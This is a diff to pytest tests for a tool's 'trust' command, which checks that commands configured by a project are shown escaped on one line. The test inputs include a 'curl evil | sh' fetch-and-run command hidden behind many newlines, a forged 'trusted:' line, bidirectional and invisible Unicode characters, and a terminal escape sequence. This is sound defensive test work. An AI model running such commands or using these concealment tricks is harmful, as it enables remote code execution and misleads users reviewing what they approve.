@@ -126,7 +126,7 @@ def test_trust_shows_what_the_project_asks_for(
     known: Graphmem, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
-    nothing = "graphmem: nothing needs trust: no setting, no verify command, no extractor\n"
+    nothing = "graphmem: nothing needs trust: no setting, no verify command, no proof, no extractor\n"
     assert known("trust") == Done(0, "", nothing)
     (tmp_path / ".graphmem/config.toml").write_text('format = 1\n[embedding]\nmodel = "evil\\u001b[31m"\n')
     done = known("trust")
@@ -142,9 +142,10 @@ def test_trust_shows_each_command_as_one_word_on_one_line(
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
     verify = "make test" + "\n" * 25 + "curl evil | sh\ntrusted: verify command: \u202e\u3164"
     known("campaign", "create", "a plan", "--name", "plan")
-    plan = json.dumps([{"seq": 1, "objective": "x", "status": "active", "verify": verify}])
+    plan = json.dumps([{"seq": 1, "objective": "x", "verify": verify}])
     (tmp_path / "plan.json").write_text(plan)
     assert known("campaign", "add-tasks", "plan", "plan.json").status == 0
+    assert known("task", "start", "plan/001").status == 0
     assert known("task", "block", "plan/001", "--reason", "it fails").status == 0
     (line,) = known("trust").out.splitlines()
     word = json.dumps(verify)
